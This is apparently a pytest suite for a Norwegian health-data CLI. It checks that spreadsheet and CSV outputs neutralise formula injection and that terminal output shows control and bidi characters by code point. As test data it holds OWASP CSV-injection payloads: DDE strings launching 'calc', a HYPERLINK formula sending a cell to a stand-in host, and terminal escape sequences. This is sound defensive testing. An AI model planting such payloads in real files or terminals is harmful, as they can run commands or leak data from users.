"""Issue 16, output side: text from the inputs never runs as a formula in a spreadsheet, never breaks a
writer, and never reaches the terminal as control or bidi characters."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from rich.console import Console
from typer.testing import CliRunner

from ehelse_cli.cli import render
from ehelse_cli.cli.app import app
from ehelse_cli.cli.errors import report
from ehelse_cli.cli.terminal_text import printable
from ehelse_cli.core.errors import InputError, Problem
from ehelse_cli.writers import excel_book as xl
from ehelse_cli.writers.cell_text import csv_field, looks_like_formula, xml_text
from ehelse_cli.writers.csv_excel import excel_csv
from helpers.payers import apotek_csv

# Names a hostile sender could give a pharmacy: OWASP's CSV-injection payloads (a link, DDE, a sum, a
# negative sum), each on a real shipped organisation number so only the name is odd.
HOSTILE = {
    "991037004": '=HYPERLINK("http://x.example/?q="&A1,"Klikk")',
    "991037373": "+cmd|' /C calc'!A0",
    "991037748": "@SUM(1+9)*cmd|' /C calc'!A0",
    "991038116": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def apotek(tmp_path: Path) -> Path:
    """An apotek register of four pharmacies with the names above."""
    return apotek_csv(tmp_path / "apotek.csv", HOSTILE)


class TestTheRule:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_every_formula_start(self, start: str) -> None:
        """The six characters OWASP names mark a formula; the Excel CSV puts an apostrophe before them."""
        assert looks_like_formula(start + "1")
        assert csv_field(start + "1") == "'" + start + "1"

    @pytest.mark.parametrize("text", ["Oslo", "Ål", "1-2", " =1", "'=1", ""])
    def test_plain_text_is_left(self, text: str) -> None:
        """Text that does not start like a formula is written as it is."""
        assert not looks_like_formula(text) and csv_field(text) == text

    def test_xml_text_drops_what_xlsx_cannot_hold(self) -> None:
        """NUL, ESC and the other C0 controls go; tab, newline and CR stay."""
        assert xml_text("a\x00b\x1b[31mc\td\ne\rf\x7f") == "ab[31mc\td\ne\rf\x7f"


class TestSpreadsheets:
    def test_excel_csv_field(self) -> None:
        """The Excel-friendly CSV: the apostrophe before a formula-like name, numbers untouched (-5 is a number)."""
        data = excel_csv(["Navn", "Beløp"], [["=1+1", -5], ["-x", 3]]).decode("utf-8-sig")
        assert data == "Navn;Beløp\r\n'=1+1;-5\r\n'-x;3\r\n"

    def test_openpyxl_books_keep_formulas_as_text(self, tmp_path: Path) -> None:
        """A cell set directly (as the templates do) with «=…» is saved as text with the quote prefix, and a
        cell with ESC or NUL is saved without them instead of stopping the writer."""
        wb = xl.new_workbook()
        ws = wb.create_sheet("Ark")
        ws.cell(row=1, column=1, value='=HYPERLINK("http://x","y")')
        xl.put(ws, 2, 1, "Navn\x1b[31m med\x00 ESC")
        xl.put(ws, 3, 1, "@SUM(A1)")
        xl.text_only(wb)
        xl.save_reproducible(wb, tmp_path / "b.xlsx", __import__("datetime").date(2026, 1, 1))
        back = openpyxl.load_workbook(tmp_path / "b.xlsx")["Ark"]
        assert [(c.value, c.data_type, c.quotePrefix) for c in back["A"]] == [
            ('=HYPERLINK("http://x","y")', "s", True),
            ("Navn[31m med ESC", "s", False),
            ("@SUM(A1)", "s", True),
        ]
        with zipfile.ZipFile(tmp_path / "b.xlsx") as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet

    def test_compare_workbook(self, runner: CliRunner, apotek: Path, tmp_path: Path) -> None:
        """`compare --xlsx` wrote «=HYPERLINK(…)» as a live formula: every hostile name is now text."""
        out = tmp_path / "c.xlsx"
        result = runner.invoke(app, ["compare", "e-resept", "--registers", str(apotek), "--xlsx", str(out)])
        assert result.exit_code == 0, result.stderr
        found = {
            c.value: (c.data_type, c.quotePrefix)
            for ws in openpyxl.load_workbook(out).worksheets
            for row in ws.iter_rows()
            for c in row
            if c.value in HOSTILE.values()
        }
        assert found == dict.fromkeys(HOSTILE.values(), ("s", True))

    def test_split_workbook(self, runner: CliRunner, apotek: Path, tmp_path: Path) -> None:
        """`split --xlsx`: the same."""
        out = tmp_path / "s.xlsx"
        result = runner.invoke(app, ["split", "e-resept", "--registers", str(apotek), "--xlsx", str(out)])
        assert result.exit_code == 0, result.stderr
        found = {
            c.value: (c.data_type, c.quotePrefix)
            for ws in openpyxl.load_workbook(out).worksheets
            for row in ws.iter_rows()
            for c in row
            if c.value in HOSTILE.values()
        }
        assert found == dict.fromkeys(HOSTILE.values(), ("s", True))

    @pytest.mark.parametrize("command", ["split", "compare"])
    def test_excel_csv_output(self, runner: CliRunner, apotek: Path, command: str) -> None:
        """`-o excel-csv`: each hostile name with an apostrophe in front, so Excel shows it as text."""
        result = runner.invoke(app, [command, "e-resept", "--registers", str(apotek), "-o", "excel-csv", "--top", "0"])
        assert result.exit_code == 0, result.stderr
        cells = {c for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff")), delimiter=";") for c in row}
        assert {"'" + name for name in HOSTILE.values()} <= cells
        assert not cells & set(HOSTILE.values())

    def test_machine_csv_keeps_the_data(self, runner: CliRunner, apotek: Path) -> None:
        """`-o csv` is for scripts: every name exactly as given (what --output's help says)."""
        result = runner.invoke(app, ["split", "e-resept", "--registers", str(apotek), "-o", "csv"])
        assert result.exit_code == 0, result.stderr
        names = {row["name"] for row in csv.DictReader(io.StringIO(result.stdout))}
        assert set(HOSTILE.values()) <= names
        assert "uendret" in runner.invoke(app, ["split", "--help"]).stdout


class TestTerminal:
    def test_printable(self) -> None:
        """ESC, BEL, DEL, a C1 control and every bidi override or isolate are shown by code point."""
        assert printable("A\x1b]52;c;aGk=\x07B\u202eC\u2066D\x7fE\x9bF") == (
            "A<U+001B>]52;c;aGk=<U+0007>B<U+202E>C<U+2066>D<U+007F>E<U+009B>F"
        )
        assert printable("Bø kommune\tÅl\n") == "Bø kommune\tÅl\n"

    def test_table_cells(self) -> None:
        """A payer name with an escape sequence and a bidi override is shown, not sent, in a table."""
        con = Console(file=io.StringIO(), width=120, color_system=None)
        render.print_table(con, "Betalere", [render.Col("Betaler")], [["Apotek\x1b[2J\u202eknaB"]])
        text = con.file.getvalue()  # type: ignore[attr-defined]
        assert "Apotek<U+001B>[2J<U+202E>knaB" in text and "\x1b" not in text and "\u202e" not in text

    def test_error_messages(self, capsys: pytest.CaptureFixture[str]) -> None:
        """A message that echoes a bad value shows its control characters, one problem or several."""
        report(InputError([Problem(source="apotek.csv, rad 2", message="«\x1b[31mX\u202e» er ukjent")]))
        report(InputError([Problem(source="a", message="\x1b1"), Problem(source="b", message="\u202e2")]))
        assert capsys.readouterr().err == (
            "Feil: apotek.csv, rad 2: «<U+001B>[31mX<U+202E>» er ukjent\n"
            "Feil: 2 problemer i inndata:\n  - a: <U+001B>1\n  - b: <U+202E>2\n"
        )
